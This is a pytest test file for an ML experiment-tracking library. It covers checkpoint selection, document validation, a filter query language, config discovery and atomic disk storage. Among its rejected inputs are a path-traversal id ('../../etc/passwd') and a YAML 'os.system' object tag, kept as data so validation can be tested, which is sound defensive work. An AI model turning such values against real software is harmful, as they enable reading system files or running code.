def test_escaped_text_is_printable_everywhere(text):
    import unicodedata
    shown = replicate.escape_control(text)
    shown.encode("utf-8")
    assert not {unicodedata.category(mark) for mark in shown} & {"Cc", "Cs", "Zl", "Zp"}
    assert not {unicodedata.bidirectional(mark) for mark in shown} & set("LRE RLE LRO RLO PDF LRI RLI FSI PDI".split())


# ------------------------------------------------------------------------------------------------------------------
# 3  Model: Experiment, Checkpoint, their lists
# ------------------------------------------------------------------------------------------------------------------

def make_experiment(*checkpoints, **fields):
    document = experiment_document(A, checkpoints=checkpoints, **fields)
    return replicate.Experiment(replicate.checked_experiment(document, document["id"]))


def make_row(params=None, metrics=None, running=False, created="2006-01-02T14:54:05Z", steps=(20,), primary=None, **fields):
    """The row of an experiment whose checkpoints all have the same metrics."""
    checkpoints = [checkpoint_document(hex_id("%xc" % number), "2006-01-03T00:00:%02dZ" % number, step, metrics, None, primary)
                   for number, step in enumerate(steps)]
    return row_of(*checkpoints, running=running, params=params, created=created, **fields)


def row_of(*checkpoints, running=False, **fields):
    row = replicate.Row.of(make_experiment(*checkpoints, **fields).to_json())
    row.running = running
    return row


def test_latest_is_the_newest_by_time_and_of_equals_the_last():
    times = ["15:00:09Z", "15:00:10.1234567Z", "15:00:10.1234568Z", "16:00:10.1234568+01:00", "15:00:01Z"]
    experiment = make_experiment(*[checkpoint_document("a%d" % number, "2006-01-02T" + moment)
                                   for number, moment in enumerate(times, 1)])
    assert experiment.latest().id == "a4"
    assert experiment.duration == datetime.timedelta(minutes=6, seconds=5, microseconds=123456)
    assert make_experiment().latest() is None and make_experiment().duration is None


@pytest.mark.parametrize("goal, values, wanted", [
    ("minimize", [3, 1, 2], 1), ("maximize", [3, 1, 2], 0), ("minimize", [2, 1, 1.0], 2), ("maximize", [5, 5, 1], 1),
    ("minimize", ["[NaN]", None, 7], 2), ("maximize", ["99", True, 0.5], 2), ("minimize", ["[-Infinity]", 0, 1], 0),
    ("maximize", ["[NaN]", None, "x"], None), ("maximize", [10 ** 400, 1e308, 3], 0), ("minimize", [[1], {"a": 1}, 4], 2)])
def test_best_is_by_usable_values_of_the_primary_metric(goal, values, wanted):
    experiment = make_experiment(*[checkpoint_document("a%d" % number, "2006-01-02T15:00:%02dZ" % number, number,
                                                       {"loss": value}, None, ("loss", goal))
                                   for number, value in enumerate(values)])
    best = experiment.best()
    assert (best and best.id) == (None if wanted is None else "a%d" % wanted)


def test_best_is_of_equals_the_latest_by_time_and_the_first_primary_metric_decides():
    experiment = make_experiment(checkpoint_document("a1", "2006-01-02T15:00:30Z", metrics={"l": 1}, primary=("l", "minimize")),
                                 checkpoint_document("a2", "2006-01-02T15:00:10Z", metrics={"l": 1}))
    assert experiment.best().id == "a1"
    experiment = make_experiment(
        checkpoint_document("a1", "2006-01-02T15:00:01Z", metrics={"loss": 0.1, "acc": 0.1}),
        checkpoint_document("a2", "2006-01-02T15:00:02Z", metrics={"loss": 0.2, "acc": 0.9}, primary=("acc", "maximize")),
        checkpoint_document("a3", "2006-01-02T15:00:03Z", metrics={"loss": 0.3, "acc": 0.5}, primary=("loss", "minimize")))
    assert experiment.primary_metric() == experiment.checkpoints.primary_metric() == "acc"
    assert experiment.best().id == "a2"
    assert make_experiment(checkpoint_document("a1", metrics={"loss": 1})).best() is None


def test_experiments_have_the_fields_of_their_document():
    experiment = make_experiment(checkpoint_document(C, metrics={"acc": "[NaN]"}), command="train.py -x", path=".",
                                 params={"lr": "[+Infinity]", "none": "None"})
    assert math.isnan(experiment.checkpoints[-1].metrics["acc"])
    assert experiment.created == utc(2006, 1, 2, 14, 54, 5) and experiment.params == {"lr": math.inf, "none": "None"}
    assert (experiment.id, experiment.short_id()) == (A, "1eeeeee")
    assert (experiment.host, experiment.user, experiment.command, experiment.path) == ("10.1.1.1", "andreas", "train.py -x", ".")
    assert (experiment.python_version, experiment.python_packages) == ("3.4.5", {"foo": "1.2.3"})
    assert experiment.replicate_version == "1.0.0"
    bare = replicate.Experiment(replicate.checked_experiment(
        {"id": "ab", "created": "2006-01-02T14:54:05Z", "keepsake_version": "0.4.2", "extra": [1]}, "ab"))
    assert bare.params == {} and bare.checkpoints == [] and bare.replicate_version == "0.4.2" and bare.path is None
    assert bare.to_json()["extra"] == [1]


GOOD_DOCUMENT = experiment_document("1e" * 32, params={"lr": 0.1, "deep": {"a": [1, None]}}, checkpoints=[
    checkpoint_document("2c" * 32, metrics={"loss": 0.1}, primary=("loss", "minimize")),
    checkpoint_document("3c" * 32, "2006-01-02T15:01:06.123456789Z", 3, {"loss": "[NaN]"}, "data")])


def nested(depth, kind=list):
    value = kind()
    for _ in range(depth):
        value = [value] if kind is list else {"a": value}
    return value


WRONG_FIELDS = [
    {"id": "2e" * 32}, {"id": None}, {"id": 7}, {"id": "../x"}, {"created": None}, {"created": 3}, {"created": "yesterday"},
    {"created": "0001-01-01T00:00:00+23:59"}, {"created": "9999-12-31T23:59:59-23:59"}, {"created": "2006-13-45T99:00:00Z"},
    {"created": ["2"] * 27}, {"created": {str(number): 1 for number in range(27)}}, {"created": "x" * 26 + "Z"},
    {"params": [1]}, {"params": "x"}, {"params": 0}, {"host": 7}, {"user": ["x"]}, {"config": "x"}, {"command": {}},
    {"path": 1}, {"path": ["x"]}, {"python_version": 3.11}, {"python_packages": ["a"]}, {"python_packages": {"a": None}},
    {"python_packages": {"a": {}}}, {"python_packages": {"a": 1}}, {"replicate_version": 1}, {"keepsake_version": []},
    {"checkpoints": {}}, {"checkpoints": [None]}, {"checkpoints": ["x"]}, {"checkpoints": [[]]}, {"params": nested(60)},
    {"params": {"a": nested(60)}}, {"params": {"a": nested(60, dict)}}, {"unknown": nested(100)},
    *[{"checkpoints": [dict(GOOD_DOCUMENT["checkpoints"][0], **change), GOOD_DOCUMENT["checkpoints"][1]]} for change in [
        {"id": "x"}, {"id": "../../etc/passwd"}, {"id": "3c" * 32}, {"created": "2006"}, {"created": ""}, {"created": {}},
        {"created": "0001-01-01T00:00:00+10:00"}, {"step": 1.5}, {"step": "1"}, {"step": True},
        {"metrics": []}, {"metrics": "x"}, {"path": 3}, {"primary_metric": []}, {"primary_metric": {"name": "a"}},
        {"primary_metric": {"name": 3, "goal": "minimize"}}, {"primary_metric": {"name": "a", "goal": "best"}},
        {"primary_metric": {"name": "a", "goal": ["minimize"]}}, {"metrics": {"a": nested(60)}}, {"unknown": nested(100)},
        {"checkpoints": nested(200)}]]]


@pytest.mark.parametrize("change", WRONG_FIELDS)
def test_documents_of_wrong_types_are_read_errors(change):
    replicate.checked_experiment(GOOD_DOCUMENT, GOOD_DOCUMENT["id"])
    with pytest.raises(replicate.ReadError):
        replicate.checked_experiment(dict(GOOD_DOCUMENT, **change), GOOD_DOCUMENT["id"])


def use_or_refuse(data):
    """What the listings and the library ask of a document, if it is accepted."""
    try:
        document = replicate.checked_experiment(replicate.decode_json(data, "it"), "1e" * 32)
    except replicate.ReadError:
        return
    experiment = replicate.Experiment(document)
    row = replicate.Row.of(document)
    replicate.encode_json(experiment.to_json())
    shown = json.loads(replicate.shown_json(row.to_json()))
    assert shown["id"] == document["id"] and list(shown)[-1] == "running"
    experiment._repr_html_()
    [repr(experiment.checkpoints), repr(experiment), experiment.duration, experiment.replicate_version]
    for name in replicate.known_names([row]):
        value = row.value(name)
        if value is not replicate.ABSENT and not isinstance(value, datetime.datetime):
            replicate.format_cell(value)
            replicate.format_value(value)
        for descending in (True, False):
            assert replicate.sort_rows([row, row], name, descending) == [row, row]
    for checkpoint in experiment.checkpoints:
        assert checkpoint.created and checkpoint.step >= checkpoint.step and checkpoint.metrics is not None


JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8) |
    st.sampled_from(["1e" * 32, "2006-01-02T15:01:05Z", "2006-01-02T15:01:05.123456Z", "minimize", "[NaN]", 1e999, 10 ** 400]),
    lambda inner: st.lists(inner, max_size=30) | st.dictionaries(st.text(max_size=5) | st.sampled_from(
        ["id", "created", "name", "goal", "params", "metrics", "checkpoints"]), inner, max_size=30), max_leaves=40)


@hypothesis.given(st.data())
@hypothesis.settings(max_examples=300)
def test_the_document_reader_raises_only_read_errors(data):
    document = json.loads(json.dumps(GOOD_DOCUMENT))
    for _ in range(data.draw(st.integers(1, 3))):
        checkpoints = document.get("checkpoints")
        items = [item for item in checkpoints if isinstance(item, dict)] if isinstance(checkpoints, list) else []
        target = data.draw(st.sampled_from([document, *items]))
        key = data.draw(st.sampled_from(sorted(target) + ["new"]))
        if data.draw(st.booleans()):
            target.pop(key, None)
        else:
            target[key] = data.draw(JSON_VALUES)
    for value in (document, data.draw(JSON_VALUES)):
        use_or_refuse(json.dumps(value).encode())


@hypothesis.given(st.data())
@hypothesis.settings(max_examples=300)
def test_damaged_document_bytes_raise_only_read_errors(data):
    text = bytearray(json.dumps(GOOD_DOCUMENT, indent=1).encode())
    for _ in range(data.draw(st.integers(1, 4))):
        position = data.draw(st.integers(0, len(text) - 1))
        text[position:position + data.draw(st.integers(0, 30))] = data.draw(st.binary(max_size=3))
    use_or_refuse(bytes(text))


# ------------------------------------------------------------------------------------------------------------------
# 4  Filters and sorting
# ------------------------------------------------------------------------------------------------------------------

def matches(text, row):
    return replicate.Filter(text).matches(row)


FILTERED = dict(params={"lr": 0.1, "n": 3, "name": "adam", "on": True, "nothing": None, "layers": [1, 2], "o": {"a": 1},
                        "foo foo": "bar bar", "note": "salt and pepper", "both": "param", "a/b:c.d-e": 1, "nan": "[NaN]",
                        "text3": "3", "notes": 1, "input": 5, "order": 2, "android": "x"},
                metrics={"loss": 0.25, "acc": 1, "both": 2.5})


FILTERS_THAT_HOLD = [
    "lr = 0.1", "lr == 0.1", "lr=0.1", "lr != 0.2", "lr < 0.2", "lr<=0.1", "lr > 0", "lr >= .1", "n = 3.0", "n = 3e0",
    "n != 4", "n > -1", "acc = 1.0", "loss < 1", "name = adam", "name > aaron", "name < b", "name ~ ^a.*m$", "name ~ da",
    "on = true", "on = True", "on != false", "nothing = null", "nothing = None", "absent = null", "absent == None",
    "layers = [1, 2]", "layers != [1]", "o = {\"a\": 1}", "foo foo >= bar bar", "\"foo foo\" = \"bar bar\"",
    "'foo foo' = 'bar bar'", "note = salt and pepper", "note = 'salt and pepper'", "a/b:c.d-e = 1", "params.a/b:c.d-e = 1",
    "both = 2.5", "metrics.both = 2.5", "params.both = param", "n in [1, 2, 3]", "n in [3.0]", "name in [sgd, adam]",
    "name in ['adam']", "name in [\"adam\", 3]", "on in [true]", "on != 1", "on != yes", "n != three", "text3 = '3'",
    "text3 != 3", "nan = NaN", "step = 20", "step >= 20", "checkpoints = 1", "user = andreas", "host = 10.1.1.1",
    "command ~ train", "status = stopped", "status != running", "id ~ ^1eee", "id = " + A, "id = " + A[:7],
    "id in [abc, %s]" % A[:7], "duration > 3600",
    "lr = 0.1 and n = 3", "lr = 1 or n = 3", "not lr = 1", "not (lr = 0.1 and n = 4)", "(lr = 1 or n = 3) and name = adam",
    "lr = 1 and n = 4 or name = adam", "name = adam or lr = 1 and n = 4", "not not n = 3", "not lr = 1 and n = 3",
    "note = salt and pepper and n = 3", "note = salt and pepper or lr = 9", "  n   =   3  ", "( n = 3 )", "((n = 3))",
    "note = salt and pepper and not n = 4", "note = salt and pepper and (n = 3)", "notes = 1", "input = 5", "order = 2",
    "android = x", "n in [1, 3] and lr = 0.1", "not n in [1, 2]", "n = 3 and notes = 1 and order = 2"]
FILTERS_THAT_DO_NOT_HOLD = [
    "lr = 0.2", "lr != 0.1", "lr < 0.1", "lr <= 0.09", "lr > 0.1", "lr >= 1", "name = sgd", "name ~ ^d", "n ~ 3",
    "on = false", "on = 1", "on = 'true'", "n = '3'", "n > '1'", "name > 1", "text3 = 3", "text3 > 1", "nothing != null",
    "nothing != 3", "absent != 3", "absent = 0", "absent < 1", "absent ~ .", "absent in [1]", "nothing in [1]",
    "name = null", "layers = [1]", "layers > [0]", "both = param", "n in [1, 2]", "n in ['3']", "n in []", "on in [1]",
    "status = running", "lr = 0.1 and n = 4", "lr = 1 or n = 4", "not lr = 0.1", "(lr = 1 or n = 3) and name = sgd",
    "params.loss = 0.25", "metrics.lr = 0.1", "note = salt", "nan > 0", "nan = 0", "o > 1", "user = ben", "step = 0",
    "id != " + A[:7], "not (n = 3 or lr = 9)", "on > false and n = 4", "foo = bar bar"]


@pytest.mark.parametrize("text, wanted", [(text, True) for text in FILTERS_THAT_HOLD] +
                         [(text, False) for text in FILTERS_THAT_DO_NOT_HOLD])
def test_filters(text, wanted):
    assert matches(text, make_row(primary=("loss", "minimize"), **FILTERED)) is wanted


def test_filters_on_a_metric_use_the_best_checkpoint_or_the_latest():
    checkpoints = [checkpoint_document("a1", "2006-01-02T15:00:01Z", 1, {"loss": 0.1}, None, ("loss", "minimize")),
                   checkpoint_document("a2", "2006-01-02T15:00:02Z", 2, {"loss": 0.5})]
    row = row_of(*checkpoints)
    assert matches("loss = 0.1", row) and matches("step = 2", row) and matches("checkpoints = 2", row)
    checkpoints[0]["primary_metric"] = None
    assert matches("loss = 0.5", row_of(*checkpoints))
    empty = row_of()
    assert matches("step = 0", empty) and matches("duration = null", empty) and matches("loss = null", empty)
    assert matches("checkpoints = 0", empty) and matches("status = running", row_of(running=True))


@pytest.mark.parametrize("text, start, seconds", [
    ("2020/10/07", (2020, 10, 7), 86400), ("2020-10", (2020, 10, 1), 31 * 86400), ("7 Oct 2020 12:34", (2020, 10, 7, 12, 34), 60),
    ("2020/12", (2020, 12, 1), 31 * 86400), ("2020-2", (2020, 2, 1), 29 * 86400), ("2020-10-7", (2020, 10, 7), 86400),
    ("7 Oct 2020", (2020, 10, 7), 86400), ("2020/10/07 12:34:56", (2020, 10, 7, 12, 34, 56), 1),
    ("2020-10-07 12:34:56.25 +02:00", (2020, 10, 7, 10, 34, 56, 250000), 1e-6), ("2020-10-07T12:34Z", (2020, 10, 7, 12, 34), 60),
    ("Wed, 07 Oct 2020 20:34:56 +08", (2020, 10, 7, 12, 34, 56), 1), ("Wed, 07 Oct 2020 12:34:56 UTC", (2020, 10, 7, 12, 34, 56), 1)])
def test_dates_as_people_write_them(text, start, seconds):
    first, end = replicate.read_date(text)
    assert (first, end - first) == (utc(*start), datetime.timedelta(seconds=seconds))


@pytest.mark.parametrize("zone", ["UTC", "<+08>-8", "CET-1CEST,M3.5.0,M10.5.0/3", "EST5EDT,M3.2.0,M11.1.0"])
@pytest.mark.parametrize("created", ["2020-10-07T12:34:56Z", "2020-10-25T00:30:00Z", "2020-10-25T01:30:00Z", "2020-11-01T06:30:00Z"])
def test_filters_read_the_times_that_show_prints(monkeypatch, zone, created):
    """Also in the hour that a clock passes twice."""
    set_zone(monkeypatch, zone)
    shown = replicate.full_time(replicate.parse_time(created))
    assert matches("started = " + shown, make_row(created=created)), shown


@pytest.mark.parametrize("fields, holding, failing", [
    (dict(user="123", host="null", command="true"), ["user = 123", "command = true", "host = 'null'", "user in [123, 4]"],
     ["host = null"]), (dict(host=None), ["host = null"], []),
    (dict(params={"not-frozen": 3, "and.x": 4, "or/y": 5, "not.z": 6, "note": "salt"}),
     ["not-frozen = 3", "and.x = 4", "or/y = 5", "not.z = 6", "note = salt and not-frozen = 3", "not not-frozen = 4"], []),
    (dict(params={"note": "a and b or (c) d", "paren": "f(x)", "tail": "x and", "q": "it's", "sh": "a && b -x"}),
     ["note = a and b or (c) d", "paren = f(x)", "(paren = f(x))", "tail = x and", "q = it's", "paren = f(x) and tail = x and",
      "sh = a && b -x", "sh = 'a && b -x'"], []),
    (dict(created="2006-01-02T14:54:05.5Z"),
     ["started = 2006-01-02", "started = '2006-01-02'", "started = 2006-01-02 14:54", "created >= 2006-01-02",
      "started <= 2006-01-02", "started > 2006-01-01", "started < 2006-01-03", "started = 2006-01-02T14:54:05Z",
      "started = 2006-01-02 16:54:05+02:00", "started != 2006-01-03", "started < 2 hours ago", "started < an hour ago",
      "started != null", "not started = null", "started >= 2006-01-02 14:54:05.5",
      "started < 3 weeks ago and created < 1 second ago"],
     ["started = 2006-01-03", "started < 2006-01-02", "started > 2006-01-02", "started = 2006-01-02 14:53",
      "started > 2 hours ago", "started = null", "started != 2006-01-02"])],
    ids=["texts compare as text", "no host", "names start with a joining word", "joins inside a value", "times"])
def test_filters_of_texts_names_and_times(fields, holding, failing):
    row = make_row(**fields)
    assert [text for text in holding if not matches(text, row)] == []
    assert [text for text in failing if matches(text, row)] == []


def test_started_is_local_and_relative_to_now(monkeypatch):
    set_zone(monkeypatch, "<+08>-8")
    row = make_row(created="2006-01-02T14:54:05.5Z")
    assert matches("started = 2006-01-02 22:54", row) and not matches("started = 2006-01-02 14:54", row)
    recent = make_row(created=replicate.timestamp(time.time() - 3000))
    assert matches("started > 1 hour ago", recent) and not matches("started > 49 minutes ago", recent)


@pytest.mark.parametrize("text", [
    "", "   ", "foo", "foo >> bar", "foo => bar", "= 3", "foo =", "foo = ", "\"\" = 3", "foo = 'bar", "foo = 'bar' baz",
    "\"foo = 3", "(foo = 3", "foo = 3 and (bar = 4", "and", "not", "(", ")", "not foo", "foo ~ (", "foo ~ *", "foo in bar",
    "foo in 3", "foo in [1, , 2]", "foo in [1", "started = yesterday", "started = 2006-13-01", "started > 2006-01-02 25:00",
    "started = 3", "started in [2006-01-02]", "started < 99999999 weeks ago", "(" * 60 + "a = 1" + ")" * 60,
    "not " * 60 + "a = 1", "foo & bar", "foo ! 3", "@ = 3", "(foo = 3) bar", "() = 3", "foo = 3 && bar > 4", "foo != 3||not bar = 4",
    "status = stoped", "status == 'Failed'", "not status != open", "status in [lost, lots]", *["started = " + date for date in (
        "20201007T123456", "2020-13", "2020-02-30", "7 Foo 2020", "2020-10 12:00", "2020-10/07", "Wed, 07 Oct 2020 12:34:56 XYZ",
        "20201007")]])
def test_malformed_filters_show_the_format(text):
    with pytest.raises(replicate.ReplicateError) as caught:
        replicate.Filter(text)
    assert '"<name> <operator> <value>"' in str(caught.value) and "character" in str(caught.value)
    assert json.dumps(text) in str(caught.value)


@hypothesis.given(st.lists(st.sampled_from(["foo", "lr", "started", "user", "and", "or", "not", "in", "(", ")", "[", "]", "=",
                                            "!=", "<=", ">>", "~", "'", '"', " ", "  ", "3", "0.5", "null", "true", "2006-01-02",
                                            "2 hours ago", "[1,2]", "{", ",", "\\", "*", "\t", "\n", "\u0662", "e5", "[a"]) |
                           st.text(max_size=3), max_size=14).map(" ".join) | st.text(max_size=30))
@hypothesis.settings(max_examples=500)
def test_parsing_any_filter_raises_only_our_error(text):
    try:
        tree = replicate.Filter(text)
    except replicate.ReplicateError as error:
        assert '"<name> <operator> <value>"' in str(error)
        return
    assert all(isinstance(name, str) for name in tree.names)
    if "~" not in text or "started" not in text:  # that pair has a test of its own
        assert tree.matches(make_row(**FILTERED)) in (True, False)


@pytest.mark.parametrize("text", [
    "a" * 20000, "a " * 10000, " " * 20000 + "x", "a = " + "b and " * 3000, "a = " + " " * 5000 + "b", "a " * 5000 + "= 1",
    "a = " + "x and b = " * 3000 + "1", "a = " + "(" * 20000, "a = 1 and " * 3000 + "b = 2", "a in [" + "1," * 20000 + "1]",
    "a in [" + "[" * 20000 + "]", "a = " + "9" * 20000, "a = " + "[" * 100000, "a ~ " + "(" * 5000 + ")" * 5000,
    "not" * 10000, "- " * 10000 + "=", "a = 'x' " + "or " * 10000, "a = " + "and or not ( " * 1000,
    "a = " + "x  " * 3000, "a = x " + "&& b " * 3000, "started ~ 2006"])
def test_long_and_odd_filters_are_answered_or_refused(text):
    with contextlib.suppress(replicate.ReplicateError):
        matches(text, make_row())


def test_rows_sort_by_kind_with_missing_values_last():
    values = {"a": 3, "b": None, "c": "x", "d": 1.5, "e": "[NaN]", "f": True, "g": [1], "h": "abc", "i": None}
    rows = [make_row({} if name == "i" else {"v": value}, created="2006-01-02T14:54:%02dZ" % number, user=name)
            for number, (name, value) in enumerate(values.items())]
    order = lambda *key: "".join(row.value("user") for row in replicate.sort_rows(rows, *key))  # noqa: E731
    assert order("v", False) == "dafhcgbei"
    assert order("v", True) == "gchfadbei"
    assert order("params.v", False) == "dafhcgbei"
    assert order("started", False) == "abcdefghi" and order("created", True) == "ihgfedcba"


@pytest.mark.parametrize("key, wanted", [
    ("loss", ("loss", False)), ("loss-desc", ("loss", True)), ("loss-asc", ("loss", False)), ("a-desc-asc", ("a-desc", False)),
    (" x ", ("x", False)), ("", None), ("-desc", None), ("  ", None), ("-asc", None)])
def test_sort_keys(key, wanted):
    with contextlib.nullcontext() if wanted else pytest.raises(replicate.ReplicateError, match="empty"):
        assert replicate.parse_sort(key) == wanted


def test_rows_of_equal_values_are_listed_by_start_time_either_way(project, call):
    write_repository(project / "repo", *[experiment_document(hex_id("%de" % number), "2006-01-02T14:54:05.%dZ" % number,
                                                             {"lr": lr}) for number, lr in enumerate([0.3, 0.1, 0.2])])
    for key, order in (("user", "012"), ("user-desc", "012"), ("absent", "012"), ("absent-desc", "012"), ("started", "012"),
                       ("started-desc", "210"), ("lr", "120"), ("lr-desc", "021")):
        assert [line[0] for line in call("ls", "-q", "--sort", key)[1].split()] == list(order), key
    assert call("ls", "-q", "-f", "lr = 0.3 or lr = 0.1")[1].split() == [hex_id("0e"), A]


# ------------------------------------------------------------------------------------------------------------------
# 5  Configuration and storage
# ------------------------------------------------------------------------------------------------------------------

def write_config(project, text, name="replicate.yaml"):
    for old in replicate.CONFIG_NAMES:
        (project / old).unlink(missing_ok=True)
    (project / name).write_bytes(text if isinstance(text, bytes) else text.encode())


@pytest.mark.parametrize("text, url", [
    ("repository: s3://my-bucket\n", "s3://my-bucket"), ("repository: 's3://my-bucket/root'", "s3://my-bucket/root"),
    ('# a comment\n\nrepository: "gs://b"  # here\n', "gs://b"), ("\ufeffrepository: gs://b\r\n", "gs://b"),
    ("---\nrepository: gs://b\n", "gs://b"), ("{repository: gs://b}", "gs://b"), ("repository: >-\n  gs://b\n", "gs://b"),
    ("'repository' : gs://b\n", "gs://b"), ("repository: s3://b/\n", "s3://b"),
    ("repository: file:///elsewhere\n", "file:///elsewhere"), ("storage: file:///old\n", "file:///old")])
def test_configurations_that_are_read(project, capsys, text, url):
    """With a warning of the old name of the key."""
    write_config(project, text)
    if url.startswith(tuple(scheme + "://" for scheme in replicate.BACKENDS)):
        location = replicate.find_location()
        assert (location.directory, location.url) == (str(project), url)
    assert ("deprecated" in capsys.readouterr().err) is text.startswith("storage")
    assert replicate.read_config("replicate.yaml").rstrip("/") == url


@pytest.mark.parametrize("text, words", [
    ("", ["empty", "repository"]), ("# only a comment\n", ["empty"]), ("{}", ["empty"]), ("- repository\n- x\n", ["key: value"]),
    ("just text", ["key: value"]), ("repo: file://x\n", ["'repo'", "'repository'", "'storage'"]),
    ("repository: file://x\nstorage: file://y\n", ["both"]), ("repository:\n", ["URL"]), ("repository: ''\n", ["URL"]),
    ("repository: [a]\n", ["URL"]), ("repository: 3\n", ["URL"]), ("repository: {a: b}\n", ["URL"]),
    ("repository: file://x\nextra: 'y'\n", ["'extra'", "'repository'"]), ("repository: 'x\n", ["YAML"]),
    ("a: b: c\n", ["YAML"]), (b"repository: \xff\n", ["cannot be read"]), ("\trepository: x\n", ["YAML"]),
    ("repository: my-bucket\n", ["file://"]), ("repository: http://x\n", ["http://x", "file://"]),
    ("repository: 'file://'\n", ["directory"]), ("[" * 20000, ["YAML"]), ("repository: !!bool x\n", []),
    ("repository: !!timestamp x\n", []), ("repository: !!int ''\n", []), ("repository: !!python/object:os.system x\n", []),
    ("? [a, b]\n: c\n", []), ("repository: ftp://x\n", ["file://", "s3://", "gs://"]), *[
        (text % mark, ["YAML"]) for mark in ("\x0b", "\x0c", "\x1c", "\x07", "\x00")
        for text in ("repository: s3://b%s", "repository: %s\n", "#%s\nrepository: s3://b", "repository: s3://b%s# x")]],
    ids=lambda value: str(value)[:40])
def test_configurations_that_are_refused(project, text, words):
    write_config(project, text)
    with pytest.raises(replicate.RepositoryConfigurationError) as caught:
        replicate.find_location()
    for word in words:
        assert word in str(caught.value)


@pytest.mark.parametrize("name", ["replicate.yaml", "replicate.yml", "keepsake.yaml", "keepsake.yml"])
@pytest.mark.parametrize("configs, storage, directory, path", [
    ([""], "", "", "mine"), ([""], "a", "a", ".replicate/storage"), (["a"], "", "a", "mine"), (["a"], "a", "a", "mine"),
    (["a"], "a/b", "a/b", ".replicate/storage"), (["a/b"], "a", "a/b", "mine"), (["", "a"], None, "a", "mine"),
    ([], "", "", ".replicate/storage"), ([], None, "a/b/c", None)])
def test_the_nearest_of_configurations_and_embedded_repositories_is_used(tmp_path, monkeypatch, name, configs, storage,
                                                                          directory, path):
    root = tmp_path / "project"
    (root / "a/b/c").mkdir(parents=True)
    for config in configs:
        write_config(root / config, "repository: file://mine\n", name)
    if storage is not None:
        (root / storage / ".replicate/storage").mkdir(parents=True)
    monkeypatch.chdir(root / "a/b/c")
    location = replicate.find_location()
    assert location.directory == str(root / directory)
    assert location.url == (path and "file://%s" % (root / directory / path))


def test_the_search_ends_after_a_hundred_levels(tmp_path):
    (tmp_path / "replicate.yaml").write_text("repository: file://top\n")
    deep = tmp_path.joinpath(*["d"] * 100)
    deep.mkdir(parents=True)
    found = [replicate._search_upward(str(start), replicate.CONFIG_NAMES, replicate.CONFIG_SEARCH_DEPTH)
             for start in (deep.parent, deep)]
    assert found == [str(tmp_path / "replicate.yaml"), None]


def test_argument_then_environment_then_configuration(project, tmp_path, monkeypatch):
    assert replicate.find_location().url == "file://%s/repo" % project
    monkeypatch.setenv("REPLICATE_REPOSITORY", "file://env")
    assert replicate.find_location().url == "file://%s/env" % project
    assert replicate.find_location("file://argument").url == "file://%s/argument" % project
    write_config(project, "nonsense: [")
    assert replicate.find_location().url == "file://%s/env" % project
    monkeypatch.setenv("REPLICATE_REPOSITORY", "nonsense")
    with pytest.raises(replicate.RepositoryConfigurationError, match="nonsense"):
        replicate.find_location()
    monkeypatch.chdir(tmp_path)
    with pytest.raises(replicate.ConfigNotFound, match="nowhere"):
        replicate.find_location(directory="nowhere")


@pytest.mark.parametrize("directory", [None, "project/sub"])
@pytest.mark.parametrize("how", ["argument", "environment", "configuration", "library"])
def test_a_typed_relative_url_is_relative_to_the_working_directory(project, tmp_path, monkeypatch, how, directory):
    """But that of a configuration to the project's."""
    (project / "sub").mkdir()
    monkeypatch.chdir(tmp_path if directory else project / "sub")
    wanted = "file://%s/repo" % project if how == "configuration" else "file://%s/r" % os.getcwd()
    if how == "environment":
        monkeypatch.setenv("REPLICATE_REPOSITORY", "file://r")
    if how == "library":
        assert replicate.Project(repository="file://r", directory=directory).repository.url == wanted
    else:
        start = "project" if directory and how == "configuration" else directory
        location = replicate.find_location("file://r" if how == "argument" else None, start)
        assert location.url == wanted
        assert location.directory == str(project / "sub" if directory and how != "configuration" else project)


def test_file_urls_are_made_absolute(project):
    for url, wanted in [("file://a/../b", "%s/b" % project), ("file:///x/y/", "/x/y"), ("file://./r", "%s/r" % project),
                        ("file://~/r", "%s/r" % os.environ["HOME"]), ("file:///", "/")]:
        assert replicate.absolute_url(url, str(project)) == "file://" + wanted
    for url in ("file://", "x", "", "://x", "FILE://x", "file:x", "file:///a\0b"):
        with pytest.raises(replicate.RepositoryConfigurationError):
            replicate.absolute_url(url, str(project))


@pytest.mark.parametrize("text, wanted", [
    ("repository: file://b\n", "file://PROJECT/b"), ("# c\tc\nrepository: 'file://b' # d\n", "file://PROJECT/b"),
    ('repository: "file://b"\n', "file://PROJECT/b"), ("repository: >-\n  file://b\n", "pip install PyYAML"),
    ("unknown: 'x'\n", "unknown key"), ("repository: /data/runs\n", "not a repository URL"),
    ("repository: ../runs\n", "not a repository URL")])
def test_flat_configurations_need_no_pyyaml(project, monkeypatch, text, wanted):
    monkeypatch.setitem(sys.modules, "yaml", None)
    write_config(project, text)
    with contextlib.nullcontext() if "://" in wanted else pytest.raises(replicate.RepositoryConfigurationError, match=wanted):
        assert replicate.find_location().url == wanted.replace("PROJECT", str(project))


@hypothesis.given(st.lists(st.lists(st.sampled_from(
    ["repository", "storage", "a", ": ", ":", " ", "  ", "'", '"', "#", " #", "s3://b", "file://x/y", "-", "http://a:b", "x",
     "/x", "/", "\t", "\\", "%", "é", "1", "0x1", "~", "null", "://", "?", "=", ".", ",", "[", "}", "&", "*", "!", "|", ">", "@", "`",
     "\x85", "\u2028", "\x0c", "\x0b", "\x1c", "\x07", "\ufeff", "\u00a0", "\U0001f600"]), max_size=7).map("".join) |
    st.sampled_from(["repository: s3://b", "# comment", "", "a: 'x'", 'storage: "y z"']), max_size=4),
    st.sampled_from(["\n", "\r\n", "\n\n"]))
@hypothesis.settings(max_examples=1000)
def test_what_the_flat_reader_accepts_is_what_yaml_says(lines, end):
    yaml = pytest.importorskip("yaml")
    text = end.join(lines)
    values = replicate.read_flat_yaml(text)
    if values is not None:
        assert (yaml.safe_load(text) or {}) == values


@pytest.fixture
def storage(tmp_path):
    return replicate.DiskStorage(str(tmp_path / "store"))


def test_disk_storage_never_shows_half_a_write(storage, training):
    """A reader in another process sees the old content or the new one, whole."""
    storage.write("x", b"a" * 300000)
    reader = training("""
        storage = replicate.DiskStorage(os.environ["ROOT"])
        print("ready", flush=True)
        data = b""
        while data[:1] != b"z":
            data = storage.read("x")
            assert len(data) == 300000 and len(set(data)) == 1, len(data)
        """, env={"ROOT": storage.root})
    reader.expect("ready")
    for letter in (b"bcdefghijklmnopqrstuvwxy" * 4) + b"z":
        storage.write("x", bytes([letter]) * 300000)
    reader.end()
    assert sorted(tree(storage.root)) == ["x"]


def test_writes_that_fail_leave_the_old_content_and_nothing_else(storage):
    import resource
    storage.write("a/doc", b"old")
    Path(storage.path("a/dir/inner")).mkdir(parents=True)
